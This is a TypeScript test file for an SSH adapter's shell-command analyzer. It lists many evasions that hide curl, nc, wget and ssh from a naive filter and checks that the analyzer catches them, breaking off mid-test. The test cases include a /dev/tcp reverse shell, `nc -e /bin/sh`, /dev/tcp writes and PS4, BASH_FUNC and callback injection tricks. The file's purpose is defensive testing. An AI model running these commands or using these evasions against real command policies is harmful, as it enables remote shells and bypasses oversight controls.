/**
 * The programs a shell command line would run (adapters/ssh/src/shell/programs.ts): what an
 * `ssh host 'command'` exec request is judged by. Most cases are evasions — ways to run `curl`,
 * `nc`, `ssh` or `wget` without the name appearing where a naive reader looks — and each must
 * either be seen through, be marked `dynamic`, or be refused.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import fc from 'fast-check'
import { analyzeCommand, loadShellParser, type CommandFacts } from '../../../adapters/ssh/dist/shell/programs.js'

beforeAll(loadShellParser)

function facts(text: string): CommandFacts {
  const a = analyzeCommand(text)
  if (!a.ok) throw new Error(`${JSON.stringify(text)}: ${a.error}`)
  return a.facts
}

/** A command line and what must be true of its facts (`programs` is compared exactly, in order). */
type Case = readonly [title: string, command: string, expected: Partial<CommandFacts>]

const q = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`

describe('every command in the tree', () => {
  const cases: Case[] = [
    ['a pipeline', 'ps aux | grep ssh | nc 10.0.0.1 80', { programs: ['ps', 'grep', 'nc'], dynamic: false }],
    ['&&, || and ; lists', 'true && curl a || wget b; nc c', { programs: ['true', 'curl', 'wget', 'nc'] }],
    ['a subshell and a group', '(cd /tmp && curl x); { wget y; }', { programs: ['cd', 'curl', 'wget'] }],
    ['$( ) inside double quotes, and backticks', 'echo "$(curl x)" `nc y`', { programs: ['echo', 'curl', 'nc'] }],
    ['substitutions in redirect targets and assignments', 'X=$(wget a) cat > "$(curl b)"', { programs: ['wget', 'cat', 'curl'] }],
    ['process substitution both ways', 'diff <(curl a) >(nc b)', { programs: ['diff', 'curl', 'nc'] }],
    ['if / elif / else, conditions and bodies', 'if curl a; then nc b; elif wget c; then ssh d; else scp e f; fi', { programs: ['curl', 'nc', 'wget', 'ssh', 'scp'] }],
    ['while, until, for and case', 'while curl a; do nc b; done; until false; do :; done; for i in $(wget c); do ssh $i; done; case x in y) scp;; esac', { programs: ['curl', 'nc', 'false', ':', 'wget', 'ssh', 'scp'] }],
    ['a function body, and the call', 'f() { curl x; }; f', { programs: ['curl', 'f'] }],
    ['$( ) in an unquoted heredoc', 'cat <<EOF\nhello $(curl x)\nEOF', { programs: ['cat', 'curl'] }],
    ['backticks in an unquoted heredoc (tree-sitter leaves them as text)', 'cat <<EOF\na `nc y` b\nEOF', { programs: ['cat', 'nc'] }],
    ['a quoted heredoc runs nothing', "cat <<'EOF'\n$(curl x) `nc y`\nEOF", { programs: ['cat'] }],
    ['a here-string with a substitution', 'cat <<< "$(curl x)"', { programs: ['cat', 'curl'] }],
    ['arithmetic expansion holding a substitution', 'echo $(( $(curl x) + 1 ))', { programs: ['echo', 'curl'] }],
    ['backticks inside ${x:-…} (tree-sitter leaves them as a word)', 'echo "${x:-`nc y`}"', { programs: ['echo', 'nc'] }],
    ['escaped backticks nested inside backticks', 'x=`echo \\`nc y\\``', { programs: ['echo', 'nc'] }],
    ['a negated command and an array value', '! curl a; arr=(1 "$(wget b)")', { programs: ['curl', 'wget'] }],
    ['declaration builtins are programs too', 'export A=$(curl x); unset B', { programs: ['export', 'curl', 'unset'] }],
    // the `${` token takes the blank before it along: still its own token, not text the tree lost
    ['expansions after a blank inside double quotes', 'echo "${A:-u} ${B:-$(curl x)}"', { programs: ['echo', 'curl'] }],
  ]
  it.each(cases)('%s: %s', (_title, command, expected) => {
    expect(facts(command)).toMatchObject(expected)
  })
})

describe('command names decoded as bash does', () => {
  const cases: Case[] = [
    ['a backslash', '\\ssh host', { programs: ['ssh'], commands: ['ssh'] }],
    ['single quotes', "'nc' -l 4444", { programs: ['nc'] }],
    ['double quotes', '"curl" x', { programs: ['curl'] }],
    ['quotes inside the word', `c"url" x; c''url y; w'g'"e"t z`, { programs: ['curl', 'wget'] }],
    ['ANSI-C hex', "$'\\x63url' x", { programs: ['curl'] }],
    ['ANSI-C octal and unicode', "$'\\143url' x; $'\\u006e'c y", { programs: ['curl', 'nc'] }],
    ['ANSI-C: a NUL ends the string', "$'nc\\x00zzz' x", { programs: ['nc'] }],
    ['a line continuation inside the name (tree-sitter splits the word)', 'cu\\\nrl x', { programs: ['curl'] }],
    ['brace expansion', 'c{u,}rl x', { programs: ['curl'] }],
    ['a path is reported by its basename and as written', '/usr/bin/curl x; ./nc y', { programs: ['curl', '/usr/bin/curl', 'nc', './nc'], commands: ['/usr/bin/curl', './nc'] }],
    ['leading assignments are not the program', 'FOO=1 BAR="x y" curl x', { programs: ['curl'] }],
    ['case is kept, names are deduplicated', 'Curl a; curl b; curl c', { programs: ['Curl', 'curl'] }],
  ]
  it.each(cases)('%s: %s', (_title, command, expected) => {
    expect(facts(command)).toMatchObject(expected)
  })

  it('a name computed at run time is dynamic, written as is, and not a program', () => {
    for (const command of ['$x y', '${x} y', '$(echo curl) y', '`echo nc` y', 'cur? y', '/usr/bin/c* y', 'curl${IFS}x', '"$p" y']) {
      const f = facts(command)
      expect(f.dynamic, command).toBe(true)
      expect(f.programs.includes('curl'), command).toBe(false)
    }
    expect(facts('$x -s http://a')).toMatchObject({ programs: [], commands: ['$x'], dynamic: true })
    expect(facts('$(echo curl) y').programs).toEqual(['echo'])
  })
})

describe('wrappers that run their argument', () => {
  const cases: Case[] = [
    ['env with options and assignments', 'env -i -u HOME A=1 B=2 curl x', { programs: ['env', 'curl'] }],
    ['sudo with -u user', 'sudo -u root -E curl x', { programs: ['sudo', 'curl'] }],
    ['nested wrappers', 'sudo env nohup curl x', { programs: ['sudo', 'env', 'nohup', 'curl'], background: true }],
    ['nice -n, timeout DURATION, time, stdbuf', 'nice -n 10 timeout -s KILL 5s time stdbuf -oL nc x', { programs: ['nice', 'timeout', 'time', 'stdbuf', 'nc'] }],
    ['exec, command, builtin', 'exec -a ls curl; command -p wget; builtin eval nc', { programs: ['exec', 'curl', 'command', 'wget', 'builtin', 'eval', 'nc'] }],
    ['command -v only looks the name up', 'command -v curl', { programs: ['command'] }],
    ['xargs: the first operand is the program', 'echo u | xargs -n1 -P4 curl -s', { programs: ['echo', 'xargs', 'curl'] }],
    ['setsid, chroot DIR, strace, ltrace', 'setsid chroot /srv strace -f -o /tmp/t ltrace -e x curl', { programs: ['setsid', 'chroot', 'strace', 'ltrace', 'curl'], background: true }],
    ['busybox applets', 'busybox nc -l -p 4444', { programs: ['busybox', 'nc'] }],
    ['doas, watch, flock LOCKFILE', 'doas -u root watch -n1 "flock /tmp/l curl x"', { programs: ['doas', 'watch', 'sh', 'flock', 'curl'] }],
    ['flock -c, script -c and sg hand their script to sh', 'flock /tmp/l -c "curl x"; script -q -c "nc y" /dev/null; sg adm -c wget', { programs: ['flock', 'sh', 'curl', 'script', 'nc', 'sg', 'wget'], dynamic: false }],
    ['runuser -u in a cluster or attached', 'runuser -unobody curl x; runuser -lu nobody -- nc y; runuser --user=nobody wget', { programs: ['runuser', 'curl', 'nc', 'wget'], dynamic: false }],
    ['su -s: the given shell runs the -c script', "su -s /usr/bin/python3 -c 'print(1)' root; su --shell=/bin/dash root -c 'nc x'", { programs: ['su', 'python3', '/usr/bin/python3', 'dash', '/bin/dash', 'nc'], dynamic: true }],
    ['a line that sets SHELL makes the implicit shell unknown', 'SHELL=/usr/bin/python3 flock /tmp/l -c x', { dynamic: true }],
    ['find -exec, -execdir and -ok', 'find . -name x -exec curl {} \\; -execdir nc {} + -ok wget {} \\;', { programs: ['find', 'curl', 'nc', 'wget'] }],
    ['brace expansion moves the program', 'e{n,}v {curl,x}', { programs: ['env', 'ev'] }],
    ['a redirection before the program (tree-sitter makes the program a redirect target)', 'env >/dev/null curl x; sudo 0</dev/null nc y', { programs: ['env', 'curl', 'sudo', 'nc'], redirects: ['/dev/null'] }],
    ['words after a heredoc operator are still arguments', 'sudo <<EOF curl x\nhi\nEOF', { programs: ['sudo', 'curl'] }],
    ['hash -p makes a name run another program', 'hash -p /usr/bin/curl ls; ls x', { programs: ['hash', 'curl', '/usr/bin/curl', 'ls'] }],
    ['a program that runs no program is only itself', 'sudo -e /etc/hosts; timeout 5', { programs: ['sudo', 'timeout'], dynamic: false }],
    // getopt_long reads an abbreviation as the one option it begins: `--unse FOO` takes FOO, so curl runs
    ['abbreviated long options take their argument', 'env --unse FOO curl x; timeout --sig KILL 5 nc y; nice --adj 1 wget; stdbuf --out L ssh; xargs --max-a 1 scp', { programs: ['env', 'curl', 'timeout', 'nc', 'nice', 'wget', 'stdbuf', 'ssh', 'xargs', 'scp'], dynamic: false }],
    ['abbreviated flags take nothing', 'setsid --wa curl; flock --nb /tmp/l nc; timeout --fore 5 wget', { programs: ['setsid', 'curl', 'flock', 'nc', 'timeout', 'wget'], dynamic: false }],
    ['long options that take an argument the table once missed', 'chrt --sched-runtime 5 0 curl; unshare --map-users 0,0,1 nc; strace --summary-syscall-overhead 1 wget', { programs: ['chrt', 'curl', 'unshare', 'nc', 'strace', 'wget'], dynamic: false }],
    ['env -S: the first split string is read again with every word after it (`-Sq -S env curl` runs q)', 'env -Sq -S env curl; env -i -S"nc -l" x', { programs: ['env', 'q', 'nc'], dynamic: false }],
    ['env - before -S: what env runs then is not modelled, dynamic', 'env - --spl=q sh -c curl', { dynamic: true, dynamicReasons: ['env - with -S'] }],
    ['an abbreviated --replace makes xargs replace', 'xargs --repl sh -c {}', { programs: ['xargs', 'sh'], dynamic: true }],
    ['runuser: --user abbreviated, options taken out wherever they are', 'runuser --us=nobody curl; runuser -u nobody nc -w x', { programs: ['runuser', 'curl', 'nc'], dynamic: false }],
    ['su: abbreviated --shell and --command', 'su --sh=/usr/bin/python3 --comm=x root', { programs: ['su', 'python3', '/usr/bin/python3'], dynamic: true }],
    ['long forms of the options that start a shell', 'sudo --shell; systemd-run --shell', { programs: ['sudo', 'systemd-run'], dynamic: true }],
    ['tar runs the commands its options name, in every form tar reads', "tar -xf a.tar --to-command='curl x'; tar -xf a --to-comm nc; tar -xIwget -f a; tar xIf scp a.tar; tar -cf b f --checkpoint=1 --checkpoint-act exec=ssh; tar -xf a --use-comp=rsync -F chmod", { programs: ['tar', 'sh', 'curl', 'nc', 'wget', 'scp', 'ssh', 'rsync', 'chmod'], dynamic: false }],
    ['tar --checkpoint alone runs nothing, nor does a computed archive or member name after --', 'tar -cf b f --checkpoint; tar -xf "$a" -- "$m"; tar -xf "$a" "./$m"', { programs: ['tar'], dynamic: false }],
    // tar reads options among its operands: m='--to-command=curl x' runs curl
    ['tar: a computed operand may be an option', 'tar -xf "$a" "$m"', { programs: ['tar'], dynamic: true, dynamicReasons: ['tar: a computed word may be an option that runs a command'] }],
    ['tar: a computed option value is dynamic', 'tar -xf a --to-command="$c"; tar -xI"$p" -f a', { programs: ['tar'], dynamic: true }],
    ['an unknown or ambiguous long option may take the next word: dynamic', 'setsid --zzz curl', { programs: ['setsid', 'curl'], dynamic: true, dynamicReasons: ['unknown option --zzz'] }],
  ]
  it.each(cases)('%s: %s', (_title, command, expected) => {
    expect(facts(command)).toMatchObject(expected)
  })

  it('a computed word where the wrapped program or its options would be is dynamic', () => {
    expect(facts('sudo "$cmd" x')).toMatchObject({ programs: ['sudo'], dynamic: true })
    expect(facts('env $opts curl')).toMatchObject({ dynamic: true })
    expect(facts('find / -exec {} \\;')).toMatchObject({ programs: ['find'], dynamic: true })
    expect(facts('xargs -I{} sh -c {}')).toMatchObject({ programs: ['xargs', 'sh'], dynamic: true })
  })
})

describe('scripts given to shells, eval and friends', () => {
  const cases: Case[] = [
    ['sh -c, bash -c, dash, mksh, ksh (zsh, fish and csh are not bash: see programs-handlers)', 'sh -c "curl a"; bash -lc \'nc b\'; dash -c wget; mksh -c ssh; ksh -e -c scp', { programs: ['sh', 'curl', 'bash', 'nc', 'dash', 'wget', 'mksh', 'ssh', 'ksh', 'scp'], dynamic: false }],
    ['bash -o OPTION -c', 'bash -o pipefail -c "curl x | nc y"', { programs: ['bash', 'curl', 'nc'] }],
    ['su -c and su user -c', 'su -c "curl a" root; su - root -c \'nc b\'', { programs: ['su', 'sh', 'curl', 'nc'] }],
    ['eval joins its words', 'eval "cu""rl" x; eval \'nc\' y', { programs: ['eval', 'curl', 'nc'] }],
    ['nested quoting, three shells deep', `sh -c ${q(`bash -c ${q('eval "curl x"')}`)}`, { programs: ['sh', 'bash', 'eval', 'curl'] }],
    ['ssh: the remote command is judged too', "ssh -p 22 host 'curl x | sh -c \"nc y\"'", { programs: ['ssh', 'curl', 'sh', 'nc'] }],
    ['ssh -o ProxyCommand runs locally', 'ssh -o ProxyCommand="nc %h %p" host', { programs: ['ssh', 'nc'] }],
    ['ssh -F and scp -F: the configuration file can name a ProxyCommand', 'ssh -F ./cfg host; scp -F cfg a b:', { programs: ['ssh', 'scp'], dynamic: true }],
    ['find -exec sh -c', 'find . -exec sh -c "wget x" \\;', { programs: ['find', 'sh', 'wget'] }],
    ['xargs sh -c', 'xargs -0 sh -c "curl x"', { programs: ['xargs', 'sh', 'curl'] }],
    ['a literal heredoc fed to bash', "bash <<'EOF'\ncurl x\nEOF", { programs: ['bash', 'curl'], dynamic: false }],
    // nc -e runs /bin/sh for the connection
    ['a here-string fed to sh', 'sh <<< "nc -e /bin/sh h 1"', { programs: ['sh', 'nc'], dynamic: true }],
    ['trap and alias values are scripts', "trap 'curl x' EXIT; alias l='nc y'", { programs: ['trap', 'curl', 'alias', 'nc'] }],
    ['variables whose value a program runs', 'GIT_SSH_COMMAND="nc x" git fetch; PAGER=\'curl y\' man ls', { programs: ['nc', 'git', 'curl', 'man'] }],
    ['interpreters are reported, their code is not parsed: dynamic', 'python3 -c "import os; os.system(\'x\')"; perl -e 1; awk \'BEGIN{system("y")}\'', { programs: ['python3', 'perl', 'awk'], dynamic: true }],
    ['source and . are programs', 'source ~/.bashrc; . ./env.sh', { programs: ['source', '.'] }],
  ]
  it.each(cases)('%s: %s', (_title, command, expected) => {
    expect(facts(command)).toMatchObject(expected)
  })

  it('a script that is not literal is dynamic', () => {
    for (const command of ['bash -c "$(echo curl) x"', 'sh -c "$1" _ curl', 'eval "$x"', 'eval $(echo curl)', "trap \"$t\" EXIT", 'su -c "$c"', 'ssh h "$cmd"', 'xargs sh -c']) {
      expect(facts(command).dynamic, command).toBe(true)
    }
  })

  it('a shell reading commands from a pipe or the channel is dynamic', () => {
    expect(facts('echo curl x | bash')).toMatchObject({ programs: ['echo', 'bash'], dynamic: true })
    expect(facts('bash')).toMatchObject({ dynamic: true })
    expect(facts('sudo -s')).toMatchObject({ dynamic: true })
    expect(facts('bash -s < /tmp/script')).toMatchObject({ dynamic: true })
    expect(facts('. <(curl -s http://x)')).toMatchObject({ programs: ['.', 'curl'], dynamic: true })
    // a script file on the target: what it runs is unseen (allow a known script by name with a rule on `commands`)
    expect(facts('bash ./deploy.sh')).toMatchObject({ programs: ['bash'], commands: ['bash'], dynamic: true })
  })

  it('a literal that bash can still run as code (arithmetic subscripts, ${x@P}) is dynamic', () => {
    expect(facts("x='a[$(curl y)]'; echo $((x))").dynamic).toBe(true)
    expect(facts('echo ${x@P}').dynamic).toBe(true)
    expect(facts("[[ -v 'a[$(curl y)]' ]]").dynamic).toBe(true)
    expect(facts("printf -v 'a[$(curl y)]' %s 1").dynamic).toBe(true)
    expect(facts("echo '$(curl y)'").dynamic).toBe(false)
  })
})

describe('code bash runs from variables, callbacks and files (security review)', () => {
  /** Each must report curl, or be dynamic: either way a policy denying curl or dynamic denies it. */
  const seenOrDynamic = (command: string): void => {
    const f = facts(command)
    expect(f.programs.includes('curl') || f.dynamic, `${command}: ${JSON.stringify(f)}`).toBe(true)
  }

  it.each([
    // prompts are expanded when bash prints them (PS4 by set -x, PS3 by select, PS0-2 interactively)
    'x=\'$\'; PS4="${x}(curl -V >&2)"; set -x; :',
    String.raw`printf -v PS4 '\x24(curl -V >&2)'; set -x; :`,
    String.raw`printf -vPS4 '\x24(curl -V >&2)'; set -x; :`,
    String.raw`PS4='\044(curl -V >&2) '; set -x; :`,
    String.raw`PS3='$(curl -V)'; select x in a; do :; done`,
    String.raw`read -r PS4 <<< x; set -x; :`,
    String.raw`read -a PS4 <<< x; set -x; :`,
    String.raw`mapfile -t PS4 <<< x; set -x; :`,
    String.raw`readarray PS1 <<< x`,
    String.raw`export PS4="$v"; set -x; :`,
    String.raw`declare -x "PS4=$v"; set -x; :`,
    String.raw`n=PS4; declare "$n=$v"; set -x; :`,
    String.raw`local PS0=$v`,
    String.raw`typeset PS2=$v`,
    String.raw`PS4+='(curl -V >&2)'; set -x; :`,
    String.raw`PS4=("$v"); set -x; :`,
    String.raw`PS4[0]=$v; set -x; :`,
    String.raw`PS4=$v bash -xc :`,
    String.raw`env PS4=$v bash -xc :`,
    String.raw`sudo PS4=$v bash -xc :`,
    'unset PS4; : ${PS4:=$v}; set -x; :',
    'n=PS4; : ${!n:=x}',
    String.raw`for PS4 in "$v"; do set -x; :; done`,
    String.raw`for PS4; do set -x; :; done`,
    String.raw`declare -n r=PS4; r=$v; set -x; :`,
    String.raw`declare -n r; r=PS4; r=$v; set -x; :`,
    String.raw`PROMPT_COMMAND=$v bash -i`,
    String.raw`MAILPATH="/x?$v"`,
    // exported functions
    String.raw`env 'BASH_FUNC_f%%=() { curl -V; }' bash -c f`,
    String.raw`env "BASH_FUNC_f%%=() { $v; }" bash -c f`,
    String.raw`env -S "BASH_FUNC_f%%='() { curl -V; }' bash -c f"`,
    String.raw`sudo 'BASH_FUNC_f%%=() { curl -V; }' bash -c f`,
    String.raw`export 'BASH_FUNC_f%%=() { curl -V; }'`,
    // callbacks evaluated by builtins
    String.raw`mapfile -C 'curl -V #' -c 1 a <<< x`,
    String.raw`readarray -C 'curl -V #' -c 1 a <<< x`,
    String.raw`mapfile -c1 -C'curl -V #' a <<< x`,
    String.raw`mapfile -C timeout -c 1 a <<< curl`,
    String.raw`mapfile -C "$v" a <<< x`,
    String.raw`compgen -C 'curl -V' x`,
    String.raw`compgen -F curl x`,
    String.raw`complete -C 'curl -V' x`,
    String.raw`complete -F "$v" x`,
    String.raw`compgen -W '$(curl -V)' x`,
    String.raw`compgen -W '<(curl -V)' x`,
    String.raw`compgen -W "$v" x`,
    String.raw`trap -- 'curl -V' EXIT`,
    String.raw`trap "$v" DEBUG`,
    String.raw`enable -f /tmp/curl.so curl`,
    // shells reading their script from standard input, or from a file
    'sh /dev/./stdin',
    'sh /dev//stdin',
    'sh /dev/fd//0',
    'bash /proc/self/fd/0',
    'bash /proc/1/fd/0',
    'bash /dev/fd/0',
    'bash /dev/fd/3 3< /tmp/x',
    'bash /dev/../dev/stdin',
    'bash -- /dev/stdin',
    'sh ./x.sh',
    'bash /tmp/x',
    '. ./x.sh',
    'source /tmp/x',
    'command . /tmp/x',
    'sudo bash /tmp/x',
    'su root /tmp/x',
    'at -f /tmp/x now',
    'bash --rcfile /tmp/x -i',
    'bash -i /tmp/x',
    "bash -i /tmp/x <<'EOF'\n:\nEOF",
    'bash --init-file=/tmp/x -i',
    // startup files
    'BASH_ENV=/dev/stdin bash -c :',
    'BASH_ENV=/tmp/x bash -c :',
    'env BASH_ENV=/tmp/x bash -c :',
    'export BASH_ENV=/tmp/x; bash -c :',
    'ENV=/tmp/x sh -ic :',
    'systemd-run -E BASH_ENV=/tmp/x bash -c :',
    'ssh -o SetEnv=BASH_ENV=/tmp/x host bash -c :',
  ])('%s', seenOrDynamic)

  it('a literal prompt or startup value is searched for substitutions, loosely decoded', () => {
    expect(facts('x=\'$\'; PS4="${x}(curl -V >&2)"; set -x; :')).toMatchObject({ dynamic: true })
    expect(facts(String.raw`printf -v PS4 '\x24(curl -V >&2)'; set -x; :`)).toMatchObject({ dynamic: true })
    expect(facts(String.raw`PS4='$(curl -V >&2) '; set -x; :`)).toMatchObject({ programs: ['curl', 'set', ':'], dynamic: false })
    expect(facts(String.raw`PS4='\044(curl -V >&2) '; set -x; :`).programs).toContain('curl')
    expect(facts(String.raw`PS1='\[\e[1m\]\u@\h:\w\$ \[\e[0m\]'`)).toMatchObject({ programs: [], dynamic: false })
    expect(facts('export PS4=\'+ ${BASH_SOURCE}:${LINENO}: \'; set -x')).toMatchObject({ programs: ['export', 'set'], dynamic: false })
    expect(facts('PS4=`nc x` bash -xc :').programs).toEqual(['nc', 'bash', ':'])
    expect(facts('PS1=\'"$(curl x)" ${y:-$(nc z)}\'').programs).toEqual(['curl', 'nc'])
    expect(facts('unset PS4; : ${PS4:=\'$(curl -V >&2) \'}; set -x; :').programs).toContain('curl')
    expect(facts(String.raw`for PS4 in '$(curl -V >&2)'; do set -x; :; done`).programs).toContain('curl')
    expect(facts(String.raw`BASH_ENV='$(curl -V)' bash -c :`)).toMatchObject({ programs: ['curl', 'bash', ':'], dynamic: true })
    expect(facts('BASH_ENV= bash -c :')).toMatchObject({ dynamic: false })
    expect(facts("PS4=$'\\x24(curl -V >&2)' bash -xc :").programs).toContain('curl')
  })

  it('exported function bodies and callbacks are parsed when literal', () => {
    expect(facts(String.raw`env 'BASH_FUNC_f%%=() { curl -V; }' bash -c f`)).toMatchObject({ programs: ['env', 'curl', 'bash', 'f'], dynamic: false })
    expect(facts(String.raw`mapfile -C 'curl -V #' -c 1 a <<< x`)).toMatchObject({ programs: ['mapfile', 'curl'], dynamic: false })
    expect(facts(String.raw`compgen -C 'curl -V' x`)).toMatchObject({ programs: ['compgen', 'curl'] })
    // the callback gets words appended from input: a wrapper would run them
    expect(facts('mapfile -C timeout -c 1 a <<< curl')).toMatchObject({ dynamic: true })
    // a callback ending inside quotes would put the input line outside them: refused
    expect(analyzeCommand('mapfile -C "eval \'" -c 1 a <<< x').ok).toBe(false)
  })

  it("inside double quotes, ${x:-'…'} quotes are characters: what they hold runs", () => {
    expect(facts(`: "\${x:+'$(curl -V)'}"`).programs).toEqual([':', 'curl'])
    expect(facts(`cat <<EOF\n\${x:-'$(curl -V)'}\nEOF`).programs).toEqual(['cat', 'curl'])
    expect(facts(`: \${x:+'$(curl -V)'}`).programs).toEqual([':'])
  })

  it('ordinary uses stay static', () => {
    for (const command of ['read -r line', 'mapfile -t lines < f', 'printf -v out %s x', "printf '%s\\n' \"$x\"", 'declare -n r=foo', 'for i in a b; do :; done', 'export "FOO=$v"', 'sudo -u x FOO=1 curl x', 'bash -c "echo hi"', 'enable -n echo', 'compgen -W "a b" x', 'BASH_FUNC=1 x', 'export PS4 BASH_ENV', 'local -a x; readonly y', 'x=1; echo "${x:-\'a b\'}"']) {
      expect(facts(command).dynamic, command).toBe(false)
    }
  })

  it('a shell reading its own standard input through another spelling parses a literal heredoc', () => {
    for (const path of ['/dev/stdin', '/dev/./stdin', '/dev//stdin', '/dev/fd/0', '/dev/fd//0', '/proc/self/fd/0', '/proc/thread-self/fd/0']) {
      expect(facts(`bash ${path} <<'EOF'\ncurl x\nEOF`), path).toMatchObject({ programs: ['bash', 'curl'], dynamic: false })
    }
    // another process's standard input, another descriptor, a path through `..` (a symbolic link may lead anywhere)
    for (const path of ['/proc/1/fd/0', '/dev/fd/3', '/tmp/l/../../dev/stdin']) {
      expect(facts(`bash ${path} <<'EOF'\ncurl x\nEOF`), path).toMatchObject({ programs: ['bash'], dynamic: true })
    }
  })
})

describe('redirections, network and background', () => {
  const cases: Case[] = [
    ['an output redirect to /dev/tcp', 'echo hi > /dev/tcp/10.0.0.1/80', { programs: ['echo'], redirects: ['/dev/tcp/10.0.0.1/80'], network: true }],
    ['an input redirect, quoted', 'cat < "/dev/udp/10.0.0.1/53"', { redirects: ['/dev/udp/10.0.0.1/53'], network: true }],
    ['a reverse shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', { programs: ['bash'], redirects: ['/dev/tcp/10.0.0.1/4444'], network: true }],
    ['quoting inside the path', `exec 3>/dev/t'c'p/h/1`, { network: true }],
    ['a network path stored in a variable', 'f=/dev/tcp/h/1; cat < $f', { network: true }],
    ['a network path in a nested script', 'sh -c "echo x >/dev/tcp/h/1"', { programs: ['sh', 'echo'], network: true }],
    ['ordinary redirects; descriptor duplication is not a file', 'sort < /etc/passwd 2>&1 >> out.txt &> /dev/null', { redirects: ['/etc/passwd', 'out.txt', '/dev/null'], network: false }],
    ['&', 'curl x &', { background: true }],
    ['nohup, setsid, coproc, disown', 'nohup a; setsid b; coproc c; disown', { background: true, programs: ['nohup', 'a', 'setsid', 'b', 'coproc', 'c', 'disown'] }],
    ['coproc NAME { … } (tree-sitter reads the braces as words)', 'coproc N { nc -l 4444; }', { programs: ['coproc', 'nc'], background: true }],
    ['no background', 'curl x && wget y', { background: false, network: false }],
    // bash opens /dev/tcp/HOST/PORT itself when the expanded target starts with it: a computed target may be one
    ['a target computed from a variable', 'D=/dev; cat < $D/tcp/127.0.0.1/80', { network: true, dynamic: false }],
    ['a target starting with a default expansion', 'cat < ${D:-/dev}/tcp/127.0.0.1/80', { network: true }],
    ['a quoted computed target', 'cat < "$f"', { network: true }],
    ['a computed target after a slash', 'cat < /$x', { network: true }],
    ['a computed target after /dev/', 'echo > "/dev/$x"', { network: true }],
    ['exec with a computed target', 'exec 3>"$x"', { network: true }],
    ['>& with a computed word (a file unless it is digits)', 'echo hi >&$x', { network: true }],
    ['a literal start that rules it out', 'cat < /tmp/$x > ./out.$y 2>> log/$z', { network: false }],
    ['<& only duplicates descriptors', 'cat <&$fd', { network: false }],
    ['a process substitution is a /dev/fd path', 'while read l; do :; done < <(ls)', { network: false }],
    ['a tilde after HOME is given a value', 'HOME=$D; cat < ~/tcp/127.0.0.1/80', { network: true }],
    ['a tilde after HOME is read', 'read HOME; cat < ~/tcp/127.0.0.1/80', { network: true }],
    ['~+, ~- and ~N: directories cd and pushd change', 'cd /dev; cat < ~+/tcp/127.0.0.1/80; pushd /dev; cat < ~1/tcp/h/1; echo > ~-/x', { network: true }],
    ['a tilde alone', 'echo hi > ~/out.txt; HOME=/home/x; cat < ~/in', { network: false }],
  ]
  it.each(cases)('%s: %s', (_title, command, expected) => {
    expect(facts(command)).toMatchObject(expected)
  })
})

describe('words as bash 5 expands them (found by the bash oracle)', () => {
  it.each([
    ['zero-padded sequences', 'echo {01..3} {-01..1} {1..03..+2}', ['01', '02', '03', '-01', '000', '001', '01', '03']],
    ['a sign on a bound, and a step whose sign is ignored', 'echo {+1..2} {3..1..-2}', ['1', '2', '3', '1']],
    ['a `}` before any comma is text', 'echo {q}x,y}', ['q}x', 'y']],
    ['an unclosed brace: bash tries the next', 'echo {q,z{1..2}', ['{q,z1', '{q,z2']],
    ['a `..` that is no sequence still makes a brace expression', 'echo {1..a{b,c}}', ['1..ab', '1..ac']],
    ['a quoted comma makes none', 'echo {"q,z"} {q\\,z}', ['{q,z}', '{q,z}']],
    ['bounds past 64 bits are text', 'echo {9223372036854775807..9223372036854775808}', ['{9223372036854775807..9223372036854775808}']],
    ['an escaped tilde stays', 'echo \\~{a,b}', ['~a', '~b']],
    ['ASCII escapes in $\'…\'', "echo $'\\x41\\101\\u0041\\cA'", ['AAA\u0001']],
    ['an escaped quote in $\'…\'', "echo $'\\''", ["'"]],
    ['a `..` before `}` is no separator', 'echo {q..}x,y} {q..}x}', ['q..}x', 'y', '{q..}x}']],
    ['a single 0 or -0 bound pads nothing', 'echo {0..10} {-0..2}', ['0', '1', '2', '3', '4', '5', '6', '7', '8', '9', '10', '0', '1', '2']],
    ['a sequence is the whole inside of the braces', 'echo {x1..3} {1..3x} {1..30..10}', ['{x1..3}', '{1..3x}', '1', '11', '21']],
    ['64-bit bounds: the smallest is one, one past it is text', 'echo {-9223372036854775808..-9223372036854775807} {-9223372036854775809..0}', ['-9223372036854775808', '-9223372036854775807', '{-9223372036854775809..0}']],
  ])('%s: %s', (_title, command, words) => {
    expect(facts(command).argv).toEqual(['echo', ...words])
  })

  it('up to 64 words from one brace expansion are words; more are computed (MAX_BRACE_WORDS)', () => {
    for (const [word, count] of [['{1..64}', 64], ['{a,b}{1..32}', 64], ['{{1..32},{1..32}}', 64]] as const) expect(facts(`echo ${word}`).argv, word).toHaveLength(count + 1)
    for (const word of ['{1..65}', '{a,b}{1..33}', '{{1..33},{1..32}}', '{{1..32},{1..32},x}', '{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}']) expect(facts(`echo ${word}`).argv, word).toBeUndefined()
  })

  it.each([
    ['a letter range through `[\\]^_`: bash expands its results again (a backtick starts a substitution)', '{Z..a}x'],
    ['an empty result, which bash drops unless quoted', '{,}'],
    ['a result that starts with `~`, which bash then expands', '{,}~'],
    ['a character outside ASCII: a raw byte, or the target locale', "$'\\u00e9'"],
    ['a raw byte', "$'\\xff'"],
    ['a locale-translated string', '$"x"'],
  ])('%s is computed: no argv', (_title, word) => {
    // (or refused: tree-sitter-bash splits `echo $"x"`)
    const e = analyzeCommand(`echo ${word}`)
    expect(e.ok ? e.facts.argv : e.error).not.toBeInstanceOf(Array)
    // as a program name: dynamic, or refused where tree-sitter-bash cannot parse it there
    const a = analyzeCommand(`${word} arg`)
    expect(a.ok ? String(a.facts.dynamic) : a.error).toMatch(/^true$|could not be parsed/)
  })
})

describe('reserved words bash reads where tree-sitter-bash sees a command (found by the bash oracle)', () => {
  it.each([
    ['time ! curl x', ['time', 'curl']],
    ['time -p ! curl x', ['time', 'curl']],
    ['time -p -- curl x', ['time', 'curl']],
    ['time x= curl', ['time', 'curl']],
    ['! ! curl x', ['!', 'curl']],
    ['! time -p curl', ['time', 'curl']],
  ])('%s runs curl', (command, programs) => {
    expect(facts(command).programs).toEqual(programs)
  })

  it('only `-p` and `--` are options of the reserved word `time`: the next word is the program', () => {
    expect(facts('time -f x q').programs).toEqual(['time', '-f'])
    expect(facts('time -- -p q').programs).toEqual(['time', '-p'])
    // quoted, escaped or after an assignment it is /usr/bin/time, with its own options
    expect(facts('\\time -f x q').programs).toEqual(['time', 'q'])
    expect(facts('x=1 time -f x q').programs).toEqual(['time', 'q'])
  })

  it('after an assignment, `!` and `}` are command words', () => {
